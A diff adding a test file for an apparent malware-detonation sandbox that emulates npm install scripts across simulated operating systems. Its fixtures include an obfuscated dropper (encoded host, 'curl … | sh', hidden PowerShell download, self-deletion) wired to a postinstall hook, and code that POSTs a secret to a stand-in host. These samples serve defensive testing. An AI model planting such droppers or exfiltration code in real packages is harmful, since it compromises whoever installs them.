@@ -1,0 +1,154 @@
+import { describe, expect, test } from "vitest";
+
+import { detonatePackage } from "./detonate-package.ts";
+import type { Progress } from "./detonate-package.ts";
+import type { DetonateOptions, Detonation } from "./detonation.ts";
+import { Emulator } from "./emulator.ts";
+import { detonateLimits } from "./limits.ts";
+import { createWorld } from "./worlds/worlds.ts";
+
+const emulator = Emulator.create({ ...detonateLimits, stackMaxBytes: 160 * 1024 });
+
+async function detonate(
+  files: Readonly<Record<string, string>>,
+  options: DetonateOptions = {},
+  onProgress?: (progress: Progress) => void,
+): Promise<Detonation> {
+  const entries = Object.entries(files).map(([path, text]) => ({ path, bytes: Buffer.from(text) }));
+  const tools = { emulator: await emulator, now: () => performance.now() };
+  return await detonatePackage(
+    { entries: entries as never }, // Of an entry, its path and bytes alone are looked at.
+    options,
+    onProgress === undefined ? tools : { ...tools, onProgress },
+  );
+}
+
+function manifest(members: object): string {
+  return JSON.stringify({ name: "sample", version: "1.0.0", ...members });
+}
+
+/** A dropper's skeleton: texts behind an encoding, a command for each system, and the way out. */
+const dropper = `
+  const t = (s) => Buffer.from(s.split("").reverse().join(""), "base64").toString();
+  const os = require("os"), fs = require("fs"), { exec } = require("child_process"), host = t("==AZpxWY25WauIzY");
+  if (os.platform() === "win32") exec("powershell -w hidden -c iwr http://" + host);
+  else if (os.platform() === "darwin") exec("osascript /tmp/" + host);
+  else exec("curl http://" + host + " | sh");
+  fs.unlinkSync(__filename);`;
+
+const armed = {
+  "package.json": manifest({ scripts: { postinstall: "node setup.js" } }),
+  "setup.js": dropper,
+};
+
+describe("detonatePackage", () => {
+  test("shows what each system would have been done, differences first", async () => {
+    const { triggers } = await detonate(armed);
+    const [trigger] = triggers;
+
+    expect(trigger?.worlds.map(({ name, ended }) => [name, ended])).toEqual([
+      ["linux-laptop", "rest"],
+      ["darwin-laptop", "rest"],
+      ["win32-laptop", "rest"],
+    ]);
+    const commands = trigger?.worlds.map(
+      ({ observations }) => observations.find(({ kind }) => kind === "process")?.data["command"],
+    );
+    expect(commands).toEqual([
+      "curl http://c2.invalid | sh",
+      "osascript /tmp/c2.invalid",
+      "powershell -w hidden -c iwr http://c2.invalid",
+    ]);
+    expect(trigger?.differences.map(({ worlds }) => worlds.length)).toEqual(expect.arrayContaining([1]));
+    expect(trigger?.coverage).toBe(1);
+  });
+
+  test("gives the same for the same bytes, in whatever order packages come", async () => {
+    const first = await detonate(armed);
+    await detonate(
+      { "package.json": manifest({ main: "a.js" }), "a.js": "globalThis.leak = new Array(1e5).fill({})" },
+      { triggers: ["import"] },
+    );
+    const second = await detonate(armed);
+    const random = {
+      "package.json": manifest({ scripts: { install: "node a.js" } }),
+      "a.js":
+        "require('child_process').exec([Math.random(), Date.now(), performance.now(), require('crypto').randomUUID(), process.hrtime().join(), new Date()].join())",
+    };
+
+    expect(second).toEqual(first);
+    expect(await detonate(random)).toEqual(await detonate(random));
+  });
+
+  test("runs the scripts of an install one after the other on one disk, and those that they start", async () => {
+    const { triggers } = await detonate(
+      {
+        "package.json": manifest({ scripts: { preinstall: "node a.js", postinstall: "node b.js" } }),
+        "a.js": "require('fs').writeFileSync('made.js', 'require(\"child_process\").exec(\"from made\")')",
+        "b.js": "require('child_process').execFileSync(process.execPath, ['made.js'])",
+      },
+      { worlds: [createWorld("linux-laptop", 0)] },
+    );
+
+    const details = triggers[0]?.worlds[0]?.observations.map(({ detail }) => detail) ?? [];
+    expect(details.some((detail) => detail.includes("from made"))).toBe(true);
+  });
+
+  test("calls what an entry exports where that is wanted, with a secret that is seen to leave", async () => {
+    const files = {
+      "package.json": manifest({ main: "index.js" }),
+      "index.js":
+        "exports.sign = (key) => { require('https').request('https://drop.invalid', { method: 'POST' }).end(key) }",
+    };
+    const imported = await detonate(files, {
+      triggers: ["import"],
+      worlds: [createWorld("linux-laptop", 0)],
+    });
+    const called = await detonate(files, { triggers: ["call"], worlds: [createWorld("linux-laptop", 0)] });
+
+    expect(imported.triggers[0]?.worlds[0]?.observations.filter(({ kind }) => kind === "network")).toEqual(
+      [],
+    );
+    expect(called.triggers[0]?.worlds[0]?.observations.flatMap(({ honey }) => honey).length).toBeGreaterThan(
+      0,
+    );
+  });
+
+  test("jumps to what waits, and lets what never ends be", async () => {
+    const { triggers } = await detonate(
+      {
+        "package.json": manifest({ scripts: { install: "node a.js" } }),
+        "a.js":
+          "setTimeout(() => require('child_process').exec('late'), 5 * 24 * 3600e3); setInterval(() => 1, 1000)",
+      },
+      { worlds: [createWorld("linux-laptop", 0)] },
+    );
+
+    const run = triggers[0]?.worlds[0];
+    expect(run?.ended).toBe("rest");
+    expect(run?.observations.find(({ detail }) => detail.includes("late"))?.atMs).toBeGreaterThanOrEqual(
+      5 * 24 * 3600e3,
+    );
+  });
+
+  test("tells of a run that takes long while it runs", async () => {
+    const told: Progress[] = [];
+    await detonate(
+      {
+        "package.json": manifest({ scripts: { install: "node a.js" } }),
+        "a.js": "for (let i = 0; i < 120; i++) require('child_process').exec('a' + i)",
+      },
+      { worlds: [createWorld("linux-laptop", 0)] },
+      (progress) => told.push(progress),
+    );
+
+    expect(told[0]?.kind).toBe("begun");
+    expect(told.at(-1)?.kind).toBe("ended");
+    expect(told.some(({ kind }) => kind === "tried")).toBe(true);
+  });
+
+  test("has nothing to run in a package without triggers", async () => {
+    expect(await detonate({ "package.json": manifest({}) })).toMatchObject({ triggers: [] });
+    expect(await detonate({})).toMatchObject({ triggers: [] });
+  });
+});
